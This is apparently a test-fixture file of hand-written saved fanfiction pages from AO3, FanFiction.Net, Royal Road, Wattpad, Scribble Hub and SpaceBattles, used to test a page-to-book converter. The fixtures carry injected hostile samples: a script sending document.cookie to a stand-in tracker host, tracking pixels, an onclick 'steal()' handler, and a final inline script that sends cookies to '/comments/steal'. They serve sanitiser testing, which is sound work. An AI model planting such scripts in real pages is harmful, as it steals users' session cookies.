/**
 * Pages as the archives serve them, written by hand from each site's public markup (AO3's from
 * otwarchive's `app/views/downloads/` and `app/views/works/`), with their boilerplate, menus,
 * comment boxes, scripts and trackers left in: what a reader saves is what the tests read.
 */

/** Things a hostile saved page carries; none of it may reach a book or be fetched. */
export const HOSTILE = `<script>fetch('https://tracker.example/p?'+document.cookie)</script>
<iframe src="https://ads.example/frame"></iframe>
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="">
<link rel="stylesheet" href="https://fonts.example/css?family=Evil">`

/** AO3's whole-work HTML download of a two-chapter work (downloads/show.html.erb). */
export function ao3Download(chapters = 2): string {
  const chapter = (n: number) => `
<div class="meta group">
  <h2 class="heading">Chapter ${n}: ${['', 'The Letter', 'The Station', 'The Return'][n]}</h2>
  <p>Chapter Notes</p>
  <blockquote class="userstuff"><p>A/N: Thanks for the kudos on chapter ${n - 1 || 'one'}!</p></blockquote>
  <div class="endnote-link">See the end of the chapter for  <a href="#endnotes${n}">more notes</a></div>
</div>
<!--chapter content-->
<div class="userstuff">
<p>Chapter ${n} opens at the station, where Holmes waits.</p>
<p>Watson arrives late, <em>as ever</em>, and the story of chapter ${n} goes on.</p>
</div>
<!--/chapter content-->
<div class="meta" id="endnotes${n}">
  <p>Chapter End Notes</p>
  <blockquote class="userstuff"><p>Next chapter soon.</p></blockquote>
</div>`
  return `<!DOCTYPE html>
<html>
<head>
<meta charset="UTF-8">
<title>The Case of the Missing Letter - holmesian - Sherlock Holmes - Arthur Conan Doyle</title>
<style type="text/css">body{margin:0 5%}</style>
</head>
<body>
<div id="preface">
  <h2 class="toc-heading">Preface</h2>
  <p class="message">
    <b>The Case of the Missing Letter</b><br/>
    Posted originally on the <a href="https://archiveofourown.org/">Archive of Our Own</a> at <a href="https://archiveofourown.org/works/123456">https://archiveofourown.org/works/123456</a>.
  </p>
  <div class="meta">
    <dl class="tags">
      <dt>Rating:</dt>
      <dd><a href="https://archiveofourown.org/tags/Teen%20And%20Up%20Audiences">Teen And Up Audiences</a></dd>
      <dt>Archive Warning:</dt>
      <dd><a href="https://archiveofourown.org/tags/No%20Archive%20Warnings%20Apply">No Archive Warnings Apply</a></dd>
      <dt>Category:</dt>
      <dd><a href="https://archiveofourown.org/tags/Gen">Gen</a></dd>
      <dt>Fandom:</dt>
      <dd><a href="https://archiveofourown.org/tags/Sherlock%20Holmes%20-%20Arthur%20Conan%20Doyle">Sherlock Holmes - Arthur Conan Doyle</a></dd>
      <dt>Relationship:</dt>
      <dd><a href="https://archiveofourown.org/tags/Sherlock%20Holmes%20*a*%20John%20Watson">Sherlock Holmes &amp; John Watson</a></dd>
      <dt>Characters:</dt>
      <dd><a href="https://archiveofourown.org/tags/Sherlock%20Holmes">Sherlock Holmes</a>, <a href="https://archiveofourown.org/tags/John%20Watson">John Watson</a></dd>
      <dt>Additional Tags:</dt>
      <dd><a href="https://archiveofourown.org/tags/Case%20Fic">Case Fic</a>, <a href="https://archiveofourown.org/tags/Victorian">Victorian</a></dd>
      <dt>Language:</dt>
      <dd>English</dd>
      <dt>Series:</dt>
      <dd>Part 2 of
<a href="https://archiveofourown.org/series/9876">Baker Street Letters</a></dd>
      <dt>Stats:</dt>
      <dd>
        Published: 2026-01-05
          Updated: 2026-11-30
        Words: 12,345
        Chapters: ${chapters}/?
      </dd>
    </dl>
    <h1>The Case of the Missing Letter</h1>
    <div class="byline">by <a rel="author" href="https://archiveofourown.org/users/holmesian/pseuds/holmesian">holmesian</a></div>
      <p>Summary</p>
      <blockquote class="userstuff"><p>A letter goes missing.</p><p>Holmes is <em>not</em> amused.</p></blockquote>
      <p>Notes</p>
        <blockquote class="userstuff"><p>Written for the Baker Street exchange.</p></blockquote>
        <div class="endnote-link">
          See the end of the work for more <a href="#endnotes">notes</a>
        </div>
  </div>
</div>
<div id="chapters" class="userstuff">
${Array.from({ length: chapters }, (_, i) => chapter(i + 1)).join('\n')}
</div>
<div id="afterword">
  <h2 class="toc-heading">Afterword</h2>
    <div class="meta">
        <div id="endnotes">
          <p>End Notes</p>
          <blockquote class="userstuff"><p>Thank you for reading!</p></blockquote>
        </div>
    </div>
  <p class="message">Please <a href="https://archiveofourown.org/works/123456/comments/new">drop by the Archive and comment</a> to let the creator know if you enjoyed their work!</p>
</div>
</body>
</html>
`
}

/** An AO3 chapter page saved from the browser, whole page (works/show + chapters/show). */
export const ao3ChapterPage = `<!DOCTYPE html>
<!-- saved from url=(0058)https://archiveofourown.org/works/123456/chapters/2345678 -->
<html lang="en"><head><meta charset="utf-8">
<title>The Case of the Missing Letter - Chapter 2 - holmesian - Sherlock Holmes - Arthur Conan Doyle [Archive of Our Own]</title>
${HOSTILE}
</head>
<body class="logged-out">
<div id="outer" class="wrapper">
  <ul id="skiplinks"><li><a href="#main">Main Content</a></li></ul>
  <header id="header" class="region">
    <h1 class="heading"><a href="/"><span>Archive of Our Own</span></a></h1>
    <nav aria-label="Site"><ul class="primary navigation actions"><li class="dropdown"><a href="/menu/fandoms">Fandoms</a></li><li><a href="/works/search">Search</a></li></ul></nav>
  </header>
  <div id="inner" class="wrapper">
    <div id="main" class="works-show region" role="main">
      <ul class="work navigation actions" role="menu"><li class="chapter entire"><a href="/works/123456?view_full_work=true">Entire Work</a></li><li class="chapter previous"><a href="/works/123456/chapters/2345677">← Previous Chapter</a></li><li class="kudos"><form><input type="submit" value="Kudos ♥"></form></li></ul>
      <div class="wrapper">
        <dl class="work meta group">
          <dt class="rating tags">Rating:</dt>
          <dd class="rating tags"><ul class="commas"><li><a class="tag" href="/tags/Mature/works">Mature</a></li></ul></dd>
          <dt class="warning tags">Archive Warning:</dt>
          <dd class="warning tags"><ul class="commas"><li><a class="tag" href="/tags/x/works">Major Character Death</a></li></ul></dd>
          <dt class="category tags">Category:</dt>
          <dd class="category tags"><ul class="commas"><li><a class="tag" href="/tags/M*s*M/works">M/M</a></li></ul></dd>
          <dt class="fandom tags">Fandom:</dt>
          <dd class="fandom tags"><ul class="commas"><li><a class="tag" href="/tags/x/works">Sherlock Holmes - Arthur Conan Doyle</a></li></ul></dd>
          <dt class="relationship tags">Relationship:</dt>
          <dd class="relationship tags"><ul class="commas"><li><a class="tag" href="/tags/x/works">Sherlock Holmes/John Watson</a></li></ul></dd>
          <dt class="character tags">Characters:</dt>
          <dd class="character tags"><ul class="commas"><li><a class="tag" href="/tags/x/works">Sherlock Holmes</a></li><li><a class="tag" href="/tags/y/works">Mrs. Hudson</a></li></ul></dd>
          <dt class="freeform tags">Additional Tags:</dt>
          <dd class="freeform tags"><ul class="commas"><li><a class="tag" href="/tags/x/works">Angst</a></li></ul></dd>
          <dt class="language">Language:</dt>
          <dd class="language" lang="en">English</dd>
          <dt class="series">Series:</dt>
          <dd class="series"><span class="series"><span class="position">Part 3 of <a href="/series/9876">Baker Street Letters</a></span></span></dd>
          <dt class="stats">Stats:</dt>
          <dd class="stats"><dl class="stats"><dt class="published">Published:</dt><dd class="published">2026-01-05</dd><dt class="status">Completed:</dt><dd class="status">2026-02-01</dd><dt class="words">Words:</dt><dd class="words">4,321</dd><dt class="chapters">Chapters:</dt><dd class="chapters">2/2</dd><dt class="kudos">Kudos:</dt><dd class="kudos">42</dd><dt class="hits">Hits:</dt><dd class="hits">1000</dd></dl></dd>
        </dl>
      </div>
      <div id="workskin">
        <div class="preface group">
          <h2 class="title heading">The Case of the Missing Letter</h2>
          <h3 class="byline heading"><a rel="author" href="/users/holmesian/pseuds/holmesian">holmesian</a></h3>
          <div class="summary module"><h3 class="heading">Summary:</h3><blockquote class="userstuff"><p>A letter goes missing.</p></blockquote></div>
          <div class="notes module"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>For my beta.</p></blockquote></div>
        </div>
        <div id="chapters" role="article">
          <div class="chapter" id="chapter-2">
            <div class="chapter preface group" role="complementary">
              <h3 class="title"><a href="/works/123456/chapters/2345678">Chapter 2</a>: The Station</h3>
              <div id="notes" class="notes module" role="note"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>A/N: this one is short.</p></blockquote></div>
            </div>
            <div class="userstuff module" role="article">
              <h3 class="landmark heading" id="work">Chapter Text</h3>
              <p>The train was late.</p>
              <p onclick="steal()">Holmes did not mind.</p>
            </div>
            <div class="chapter preface group" role="complementary">
              <div id="chapter_2_endnotes" class="end notes module" role="complementary"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>Thanks for reading.</p></blockquote></div>
            </div>
          </div>
        </div>
        <div id="work_endnotes" class="end notes module"><h3 class="heading">Notes:</h3><blockquote class="userstuff"><p>The end, for now.</p></blockquote></div>
      </div>
      <div id="feedback" class="feedback"><h3 class="landmark heading">Actions</h3><ul class="actions" role="navigation"><li><a href="#main">↑ Top</a></li></ul><div id="kudos"><p class="kudos">42 people left kudos on this work!</p></div><div id="comments_placeholder"><p>Comments are loading.</p></div></div>
    </div>
  </div>
  <footer id="footer" role="contentinfo" class="region"><h3 class="landmark heading">Footer</h3><ul class="menu"><li>About the Archive</li></ul></footer>
</div>
<script src="https://archiveofourown.org/javascripts/livevalidation.js"></script>
</body></html>
`

/** A FanFiction.Net chapter page saved from the browser. */
export function ffnPage(n: number, title: string): string {
  return `<!DOCTYPE html><html><head>
<!-- saved from url=(0061)https://www.fanfiction.net/s/12345678/${n}/The-Long-Winter -->
<meta charset="utf-8"><title>The Long Winter Chapter ${n}: ${title}, a harry potter fanfic | FanFiction</title>
<link rel="canonical" href="https://www.fanfiction.net/s/12345678/${n}/The-Long-Winter">
${HOSTILE}
</head><body>
<div id="top"><div class="menulink"><a href="/">FanFiction</a> | <a href="/j/">just in</a></div></div>
<div id="content_parent" class="maxwidth">
<div id="pre_story_links"><span class="lc-left"><a class="xcontrast_txt" href="/book/">Books</a><span class="xcontrast_txt icon-chevron-right xicon-section-arrow"></span><a class="xcontrast_txt" href="/book/Harry-Potter/">Harry Potter</a></span></div>
<div id="profile_top" class="xcontrast_txt_bg">
<button class="btn pull-right" type="button" onclick="$('#follow_area').modal();">Follow/Fav</button>
<b class="xcontrast_txt">The Long Winter</b>
<span class="xcontrast_txt"><div style="height:5px"></div>By:</span> <a class="xcontrast_txt" href="/u/424242/snowquill">snowquill</a>
<div style="margin-top:2px" class="xcontrast_txt">Hermione spends a winter at Hogwarts alone. Or so she thinks.</div>
<span class="xgray xcontrast_txt">Rated: <a class="xcontrast_txt" href="https://www.fictionratings.com/" target="rating">Fiction  T</a> - English - Drama/Romance - [Hermione G., Draco M.] Luna L. - Chapters: 12 - Words: 45,678 - Reviews: 100 - Favs: 50 - Follows: 60 - Updated: <span data-xutime="1764460800">Nov 30</span> - Published: <span data-xutime="1736035200">Jan 5</span> - id: 12345678 </span>
</div>
<span class="lc-left"><select id="chap_select" title="Chapter Navigation" name="chapter" onchange="self.location='/s/12345678/'+this.options[this.selectedIndex].value+'/';"><option value="1"${n === 1 ? ' selected' : ''}>1. First Snow</option><option value="2"${n === 2 ? ' selected' : ''}>2. Thaw</option><option value="3"${n === 3 ? ' selected' : ''}>3. Spring</option></select></span>
<div role="main" aria-label="story content" class="storytextp" id="storytextp">
<div class="storytext xcontrast_txt nocopy" id="storytext">
<p><strong>A/N:</strong> Thank you all for the reviews!</p>
<p>Chapter ${n} of the story: the snow kept falling over the castle.</p>
<p>She read by the fire until late.</p>
<p>A/N: Review please!</p>
</div></div>
<div id="review"><form><textarea name="review"></textarea></form></div>
</div>
<div id="p_footer" class="maxwidth"><a href="/tos/">Terms of Service</a></div>
</body></html>
`
}

/** A Royal Road chapter page saved from the browser, with its hidden anti-copying sentence. */
export function royalRoadPage(n: number, title: string, date: string): string {
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>${title} - Mother of Learning | Royal Road</title>
<meta property="og:url" content="https://www.royalroad.com/fiction/21220/mother-of-learning/chapter/30${n}/${title.toLowerCase().replace(/\W+/g, '-')}">
<meta property="og:site_name" content="Royal Road">
<style>.cjZhMDY1ZTM1M2{display:none;speak:never;}</style>
${HOSTILE}
</head><body>
<div class="page-header navbar"><ul class="nav navbar-nav"><li><a href="/fictions/best-rated">Best Rated</a></li><li><a href="/home">Home</a></li></ul></div>
<div class="page-container"><div class="page-content-wrapper"><div class="page-content">
<div class="fic-header">
  <div class="row"><div class="col-md-5 col-lg-6 text-center md-text-left fic-title">
    <h1 class="font-white break-word">${title}</h1>
    <h2 class="font-white inline-block"><a href="/fiction/21220/mother-of-learning" class="font-white">Mother of Learning</a></h2>
    <h3 class="font-white inline-block"> by <a href="/profile/12345" class="font-white">nobody103</a></h3>
  </div>
  <div class="profile-info"><i title="Published" class="fa fa-calendar"></i> <time unixtime="1700000000" datetime="${date}T10:00:00.0000000Z" format="agoshort">1 year ago</time></div></div>
</div>
<div class="portlet light">
  <div class="portlet solid author-note-portlet"><div class="portlet-title"><div class="caption"><i class="fa fa-sticky-note"></i><span class="caption-subject bold uppercase">A note from nobody103</span></div></div>
  <div class="portlet-body author-note"><p>A/N: Thanks to my patrons.</p></div></div>
  <div class="chapter-inner chapter-content">
    <p>Zorian's eyes abruptly shot open as a sharp pain erupted from his stomach.</p>
    <p class="cjZhMDY1ZTM1M2">This content has been unlawfully taken from Royal Road; report any instances of this story if found elsewhere.</p>
    <p>Chapter ${n} continues with the morning of the festival.</p>
  </div>
  <div class="portlet solid author-note-portlet"><div class="portlet-title"><div class="caption"><span class="caption-subject bold uppercase">A note from nobody103</span></div></div>
  <div class="portlet-body author-note"><p>See you next week.</p></div></div>
  <div class="row nav-buttons"><div class="col-xs-6"><a class="btn btn-primary" href="/fiction/21220/chapter/1">Previous Chapter</a></div></div>
</div>
<div class="portlet comments-container"><h3>Comments (120)</h3><div class="comment"><p>First!</p></div></div>
</div></div></div>
<div class="page-footer"><div class="page-footer-inner">© Royal Road</div></div>
</body></html>
`
}

/** A Wattpad story part saved from the browser. */
export const wattpadPage = `<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Falling Stars - Chapter Three - Wattpad</title>
<meta property="og:site_name" content="Wattpad">
<meta property="og:url" content="https://www.wattpad.com/1234567890-falling-stars-chapter-three">
<meta property="og:description" content="A girl who catches falling stars.">
${HOSTILE}
</head><body>
<nav class="navbar"><a href="/home">Wattpad</a><a href="/login">Log in</a></nav>
<div id="app-container">
<div class="part-header">
  <span class="info"><a href="/story/987654-falling-stars">Falling Stars</a></span>
  <h1 class="h2">Chapter Three: The Comet</h1>
  <div class="author-info"><a class="author" href="/user/starwriter">by starwriter</a></div>
</div>
<div class="panel panel-reading" dir="ltr">
<pre><p data-p-id="a1">The comet came at midnight.<div class="component-wrapper" id="component-comment-a1"><button class="comment-marker">12</button></div></p><p data-p-id="a2">She was ready.<div class="component-wrapper"><button>3</button></div></p><p data-p-id="a3">A/N: vote and comment!<div class="component-wrapper"></div></p></pre>
</div>
<ul class="tag-items"><li><a href="/stories/fantasy">#fantasy</a></li><li><a href="/stories/stars">#stars</a></li></ul>
<div class="comments"><p>Loved it!</p></div>
</div>
<footer><a href="/terms">Terms</a></footer>
</body></html>
`

/** A Scribble Hub chapter page saved from the browser. */
export const scribbleHubPage = `<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Chapter 7: The Guild | The Last Quest | Scribble Hub</title>
<link rel="canonical" href="https://www.scribblehub.com/read/55555-the-last-quest/chapter/66666/">
${HOSTILE}
</head><body>
<div id="menu_wrapper"><ul class="menu_list"><li><a href="https://www.scribblehub.com/">Home</a></li></ul></div>
<div class="site-content-contain"><div id="main read chapter">
<div class="chapter_wrap">
<div class="chapter-title">Chapter 7: The Guild</div>
<div class="chp_byauthor"><a href="https://www.scribblehub.com/series/55555/the-last-quest/">The Last Quest</a> by <span class="auth_name_fic"><a href="https://www.scribblehub.com/profile/777/questor/">questor</a></span></div>
<div class="prevnext"><a class="btn-prev" href="#">Previous</a><a class="btn-next" href="#">Next</a></div>
<div class="chapter_content" id="chp_contents">
<div class="chp_raw" id="chp_raw">
<p>The guild hall smelled of ale and old parchment.</p>
<p>Mira signed her name in the ledger.</p>
<div class="wi_authornotes"><div class="wi_authornotes_top"><span class="wi_authornotes_title">Author's Note</span></div><div class="wi_authornotes_body"><p>Two chapters a week from now on.</p></div></div>
</div></div>
</div>
<div id="comments"><h3>Comments</h3><p>Nice chapter</p></div>
</div></div>
<div class="site-footer">© Scribble Hub</div>
</body></html>
`

/** A SpaceBattles threadmark reader page (XenForo 2) with two threadmarked posts. */
export const spaceBattlesReader = `<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Reader | Worm AU: Brockton Nights | SpaceBattles</title>
<link rel="canonical" href="https://forums.spacebattles.com/threads/worm-au-brockton-nights.1111111/reader/">
${HOSTILE}
</head><body data-template="threadmark_reader">
<div class="p-pageWrapper">
<header class="p-header"><div class="p-nav"><a href="/forums/">Forums</a></div></header>
<div class="p-body-header"><div class="p-title"><h1 class="p-title-value"><span class="label">Worm</span> Worm AU: Brockton Nights</h1></div></div>
<div class="block-body js-replyNewMessageContainer">
<article class="message message--post hasThreadmark js-post js-inlineModContainer" data-author="NightOwl" data-content="post-100" id="js-post-100">
  <span class="u-anchorTarget" id="post-100"></span>
  <div class="message-inner"><div class="message-cell message-cell--user"><section class="message-user"><h4 class="message-name"><a class="username">NightOwl</a></h4></section></div>
  <div class="message-cell message-cell--main">
    <div class="message-cell message-cell--threadmark-header"><label>Threadmarks</label><span class="primary">
      <span class="threadmarkLabel">1.1 Arrival</span></span></div>
    <div class="message-main js-quickEditTarget">
      <header class="message-attribution message-attribution--split"><ul class="message-attribution-main listInline"><li class="u-concealed"><a href="/threads/x.1111111/post-100"><time class="u-dt" dir="auto" datetime="2026-10-01T18:00:00+0100" data-time="1759338000">Oct 1, 2026</time></a></li></ul></header>
      <div class="message-content js-messageContent"><div class="message-userContent lbContainer js-lbContainer"><article class="message-body js-selectToQuote"><div class="bbWrapper">Taylor stepped off the bus.<br />
<br />
The city was quiet.</div><div class="js-selectToQuoteEnd">&nbsp;</div></article></div>
      <aside class="message-signature"><div class="bbWrapper">Check out my other fics!</div></aside></div>
      <footer class="message-footer"><div class="reactionsBar">Likes: 500</div><a class="actionBar-action--reply">Reply</a></footer>
    </div></div></div>
</article>
<article class="message message--post hasThreadmark js-post js-inlineModContainer" data-author="NightOwl" data-content="post-200" id="js-post-200">
  <div class="message-inner"><div class="message-cell message-cell--main">
    <div class="message-cell message-cell--threadmark-header"><span class="threadmarkLabel">1.2 Night</span></div>
    <div class="message-main">
      <header class="message-attribution"><time class="u-dt" datetime="2026-10-08T18:00:00+0100">Oct 8, 2026</time></header>
      <div class="message-content"><div class="message-userContent"><article class="message-body"><div class="bbWrapper">Night fell on the Docks.<br />
<br />
Something moved in the water.</div></article></div></div>
      <footer class="message-footer"><div class="reactionsBar">Likes: 400</div></footer>
    </div></div></div>
</article>
</div>
<div class="block-outer"><div class="pageNav"><a href="/threads/x.1111111/reader/page-2">Next</a></div></div>
<footer class="p-footer"><a href="/help/terms">Terms</a></footer>
</div></body></html>
`

/**
 * An AO3 work page saved with the browser's "Web page, HTML only" (the whole work, two chapters
 * of an unfinished work): no assets folder and no "saved from" mark, so links stay relative
 * (`/works/…`), stylesheets and scripts point at the site, and its inline scripts are left in.
 * Markup from otwarchive's works/show, works/_work_header, works/_work_header_notes,
 * chapters/_chapter and works/_work_endnotes views; the summary and notes are formatted.
 */
export const ao3HtmlOnlyPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>The Winter Garden - quillfeather - Original Work [Archive of Our Own]</title>
<link rel="stylesheet" type="text/css" media="screen" href="/stylesheets/skins/skin_873_archive_2_0/1_site_screen_.css">
<script src="/javascripts/livevalidation_standalone.js"></script>
<script type="text/javascript">
//<![CDATA[
  var $j = jQuery.noConflict(); $j(document).ready(function(){ $j('#comments_placeholder').load('/comments/show_comments'); });
//]]>
</script>
<style type="text/css">#workskin .hush { color: #999; }</style>
</head>
<body class="logged-out">
<div id="outer" class="wrapper">
  <ul id="skiplinks"><li><a href="#main">Main Content</a></li></ul>
  <header id="header" class="region">
    <h1 class="heading"><a href="/"><span>Archive of Our Own</span><sup> beta</sup></a></h1>
    <nav aria-label="Site"><ul class="primary navigation actions"><li class="dropdown"><a href="/menu/fandoms">Fandoms</a></li><li><a href="/works/search">Search</a></li></ul>
    <form class="search" id="search" action="/works/search" method="get"><input class="text" type="text" name="work_search[query]"><input class="button" type="submit" value="Search"></form></nav>
  </header>
  <div id="inner" class="wrapper">
    <div id="main" class="works-show region" role="main">
      <!--page description, messages-->
      <!--/descriptions-->
      <!--subnav-->
      <h3 class="landmark heading">Work Navigation</h3>
      <ul class="work navigation actions" role="menu">
        <li class="chapter bychapter"><a href="/works/654321/chapters/111001#workskin">Chapter by Chapter</a></li>
        <li class="chapter" aria-haspopup="true"><a href="#" class="collapsed">Chapter Index</a>
          <ul id="chapter_index" class="expandable secondary"><li><form action="/works/654321/chapters/111001" method="get"><p><select name="selected_id" id="selected_id"><option value="111001">1. Snowdrops</option><option value="111002">2. Hellebores</option></select> <span class="submit actions"><input type="submit" value="Go"></span></p></form></li></ul></li>
        <li class="comments" id="show_comments_link_top"><a href="/works/654321?show_comments=true&amp;view_full_work=true#comments">Comments (3)</a></li>
        <li class="share hidden"><a class="modal" title="Share Work" href="/works/654321/share">Share</a></li>
        <li class="download" aria-haspopup="true"><a href="#" class="collapsed">Download</a>
          <ul class="expandable secondary"><li><a href="/downloads/654321/The%20Winter%20Garden.epub?updated_at=1764460800">EPUB</a></li><li><a href="/downloads/654321/The%20Winter%20Garden.html?updated_at=1764460800">HTML</a></li></ul></li>
      </ul>
      <!--/subnav-->
      <!-- BEGIN work -->
      <div class="work"><p class="landmark"><a name="top">&nbsp;</a></p>
        <div class="wrapper">
          <h3 class="landmark heading">Work Header</h3>
          <dl class="work meta group">
            <dt class="rating tags">Rating:</dt>
            <dd class="rating tags"><ul class="commas"><li><a class="tag" href="/tags/General%20Audiences/works">General Audiences</a></li></ul></dd>
            <dt class="warning tags"><a href="/tos_faq#tags">Archive Warning</a>:</dt>
            <dd class="warning tags"><ul class="commas"><li><a class="tag" href="/tags/No%20Archive%20Warnings%20Apply/works">No Archive Warnings Apply</a></li></ul></dd>
            <dt class="category tags">Category:</dt>
            <dd class="category tags"><ul class="commas"><li><a class="tag" href="/tags/F*s*F/works">F/F</a></li></ul></dd>
            <dt class="fandom tags">Fandom:</dt>
            <dd class="fandom tags"><ul class="commas"><li><a class="tag" href="/tags/Original%20Work/works">Original Work</a></li></ul></dd>
            <dt class="relationship tags">Relationship:</dt>
            <dd class="relationship tags"><ul class="commas"><li><a class="tag" href="/tags/x/works">Ivy/Rowan</a></li></ul></dd>
            <dt class="character tags">Characters:</dt>
            <dd class="character tags"><ul class="commas"><li><a class="tag" href="/tags/Ivy/works">Ivy</a></li><li><a class="tag" href="/tags/Rowan/works">Rowan</a></li></ul></dd>
            <dt class="freeform tags">Additional Tags:</dt>
            <dd class="freeform tags"><ul class="commas"><li><a class="tag" href="/tags/Gardening/works">Gardening</a></li><li><a class="tag" href="/tags/Slow%20Burn/works">Slow Burn</a></li></ul></dd>
            <dt class="language">Language:</dt>
            <dd class="language" lang="en">English</dd>
            <dt class="stats">Stats:</dt>
            <dd class="stats"><dl class="stats"><dt class="published">Published:</dt><dd class="published">2026-11-02</dd><dt class="status">Updated:</dt><dd class="status">2026-11-30</dd><dt class="words">Words:</dt><dd class="words">2,468</dd><dt class="chapters">Chapters:</dt><dd class="chapters"><a href="/works/654321/chapters/111002">2</a>/?</dd><dt class="comments">Comments:</dt><dd class="comments">3</dd><dt class="kudos">Kudos:</dt><dd class="kudos">57</dd><dt class="bookmarks">Bookmarks:</dt><dd class="bookmarks"><a href="/works/654321/bookmarks">4</a></dd><dt class="hits">Hits:</dt><dd class="hits">812</dd></dl></dd>
          </dl>
        </div>
        <!-- BEGIN section where work skin applies -->
        <div id="workskin">
          <div class="preface group">
            <h2 class="title heading">The Winter Garden</h2>
            <h3 class="byline heading"><a rel="author" href="/users/quillfeather/pseuds/quillfeather">quillfeather</a></h3>
            <div class="summary module" role="complementary">
              <h3 class="heading">Summary:</h3>
              <blockquote class="userstuff"><p>Two gardeners, one <em>very</em> cold winter.</p>
<p>Inspired by <a href="https://example.org/chelsea" rel="nofollow">the flower show</a>. <strong>Updated on Sundays.</strong></p></blockquote>
            </div>
            <div class="notes module" role="complementary">
              <h3 class="heading">Notes:</h3>
              <ul class="associations"><li>For <a href="/users/fernleaf/gifts">fernleaf</a>.</li></ul>
              <blockquote class="userstuff"><p>With thanks to <i>my beta</i>, who knows her roses.</p></blockquote>
              <p class="jump">(See the end of the work for <a href="/works/654321/chapters/111002#work_endnotes">more notes</a>.)</p>
            </div>
          </div>
          <div id="chapters" role="article">
            <div class="chapter" id="chapter-1">
              <div class="chapter preface group" role="complementary">
                <h3 class="title"><a href="/works/654321/chapters/111001">Chapter 1</a>: Snowdrops</h3>
                <div id="notes" class="notes module" role="note"><h3 class="heading">Notes:</h3>
                  <blockquote class="userstuff"><p>A/N: the first frost.</p></blockquote>
                  <p>(See the end of the chapter for <a href="/works/654321/chapters/111001#chapter_1_endnotes">more notes</a>.)</p></div>
              </div>
              <div class="userstuff module" role="article">
                <h3 class="landmark heading" id="work">Chapter Text</h3>
                <p>The snowdrops came up through the frost on the first of the month.</p>
                <p>Ivy knelt by the bed and counted them <span class="hush">twice</span>.</p>
              </div>
              <div class="chapter preface group" role="complementary">
                <div id="chapter_1_endnotes" class="end notes module" role="complementary"><h3 class="heading">Notes:</h3>
                  <blockquote class="userstuff"><p>Rowan arrives next week.</p></blockquote></div>
              </div>
            </div>
            <div class="chapter" id="chapter-2">
              <div class="chapter preface group" role="complementary">
                <h3 class="title"><a href="/works/654321/chapters/111002">Chapter 2</a>: Hellebores</h3>
              </div>
              <div class="userstuff module" role="article">
                <h3 class="landmark heading" id="work">Chapter Text</h3>
                <p>Rowan brought hellebores in a wheelbarrow.</p>
                <p>They argued about the soil until dark.</p>
              </div>
            </div>
          </div>
          <!--afterword-->
          <div class="afterword preface group" role="complementary">
            <!--work endnotes-->
            <div class="preface" role="complementary">
              <div id="work_endnotes" class="end notes module">
                <h3>Notes:</h3>
                <blockquote class="userstuff"><p>More <em>next spring</em>.</p></blockquote>
              </div>
            </div>
            <!-- /endnotes-->
          </div>
          <!--/afterword-->
        </div>
        <!-- END work skin -->
      </div>
      <!-- END work -->
      <!-- BEGIN comment section -->
      <div id="feedback" class="feedback" role="complementary">
        <h3 class="landmark heading">Actions</h3>
        <ul class="actions" role="navigation"><li><a href="#main">↑ Top</a></li><li><form action="/kudos" method="post" id="new_kudo"><input type="submit" value="Kudos ♥" id="kudo_submit"></form></li></ul>
        <div id="kudos"><p class="kudos">quillfeather's friends and 57 guests left kudos on this work!</p></div>
        <h3 class="landmark heading"><a id="comments"></a>Comments</h3>
        <div id="add_comment_placeholder"><p>Post Comment. Note: All fields are required.</p></div>
        <div id="comments_placeholder" style="display:none;"></div>
      </div>
      <!-- END comment section -->
    </div>
  </div>
  <footer id="footer" role="contentinfo" class="region"><h3 class="landmark heading">Footer</h3><ul class="navigation actions" role="navigation"><li class="module group"><h4 class="heading">About the Archive</h4><ul class="menu"><li><a href="/site_map">Site Map</a></li></ul></li></ul></footer>
</div>
<script src="/javascripts/jquery/jquery-1.9.1.min.js"></script>
<script type="text/javascript">
//<![CDATA[
  $j(document).ready(function(){ $j('#show_comments_link_top').click(function(){ document.location='/comments/steal?c='+document.cookie; }); });
//]]>
</script>
</body>
</html>
`
